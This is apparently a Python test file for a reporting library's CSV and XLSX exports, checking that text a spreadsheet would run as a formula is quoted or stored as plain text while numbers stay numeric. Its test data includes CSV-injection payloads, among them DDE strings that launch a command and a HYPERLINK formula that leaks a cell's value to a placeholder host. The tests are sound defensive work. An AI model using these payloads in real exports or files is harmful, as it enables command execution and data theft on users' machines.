"""Exports cannot carry formulas: text a spreadsheet would run is text in XLSX and quoted in
CSV (OWASP's CSV-injection guidance); numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest

from workbench.reporting import Metric, Report, Section, Table, render_report
from workbench.reporting.renderers import write_table
from workbench.reporting.renderers.cells import neutralise

pytestmark = pytest.mark.requirement("REP-03")

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def orders() -> pd.DataFrame:
    count = len(EVIL) + 1
    return pd.DataFrame(
        {
            "client_order_id": [*EVIL, "wb-0001"],
            "strategy": ['=HYPERLINK("x")'] * count,
            "qty": [Decimal("-2000")] * count,
            "price": [-1.5] * count,
            "filled": [-3] * count,
        }
    )


def report_of(frame: pd.DataFrame) -> Report:
    return Report(
        kind="execution",
        title="Execution",
        subtitle="synthetic orders",
        generated_at=datetime(2026, 1, 1, 12, tzinfo=UTC),
        params={"account": "=cmd|' /C calc'!A0"},
        sections=(
            Section(
                "orders",
                "Orders",
                metrics=(Metric("strategy", "Strategy", "=1+1", "text"),),
                tables=(Table("orders", "Orders", frame, {"qty": "number"}),),
            ),
        ),
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("-2+3", "'-2+3"),
        ("-2000", "-2000"),  # text that spells a number is a number to a spreadsheet
        ("+1.5e3", "+1.5e3"),
        ("-7.85%", "-7.85%"),
        ("-1,234.50", "-1,234.50"),
        ("-1,2+A1", "'-1,2+A1"),
        ("-", "'-"),
        ("wb-0001", "wb-0001"),
        (-2000, -2000),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_only_text_that_runs_is_quoted(value: object, written: object) -> None:
    assert neutralise(value) == written


def test_a_csv_export_carries_no_formula(orders: pd.DataFrame, tmp_path: Path) -> None:
    path = write_table(orders, tmp_path / "orders.csv", "csv")
    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["client_order_id"] for r in rows] == [*("'" + v for v in EVIL), "wb-0001"]
    assert {r["strategy"] for r in rows} == {'\'=HYPERLINK("x")'}
    assert {(r["qty"], r["price"], r["filled"]) for r in rows} == {("-2000.0", "-1.5", "-3")}


def test_a_csv_report_folder_carries_no_formula(orders: pd.DataFrame, tmp_path: Path) -> None:
    folder = render_report(report_of(orders), "csv", tmp_path / "tables")
    table = pd.read_csv(folder / "orders.csv")
    assert table["client_order_id"].tolist() == [*("'" + v for v in EVIL), "wb-0001"]
    assert table["price"].tolist() == [-1.5] * len(table)
    metrics = (folder / "metrics.csv").read_text()
    assert "'=1+1" in metrics and ",=1+1" not in metrics


def test_xlsx_writes_text_as_text_never_as_a_formula(orders: pd.DataFrame, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = render_report(report_of(orders), "xlsx", tmp_path / "r.xlsx")
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cell"
    sheet = book["orders"]
    ids = [sheet.cell(row, 1) for row in range(2, len(EVIL) + 2)]
    # the text itself, unchanged (XML reads a carriage return as a line feed)
    assert [c.value.replace("\n", "\r") for c in ids] == EVIL
    assert all(c.data_type == "s" and c.quotePrefix for c in ids if c.value.startswith("="))
    assert sheet.cell(2, 3).value == -2000 and sheet.cell(2, 4).value == -1.5
    assert sheet.cell(2, 3).data_type == "n"
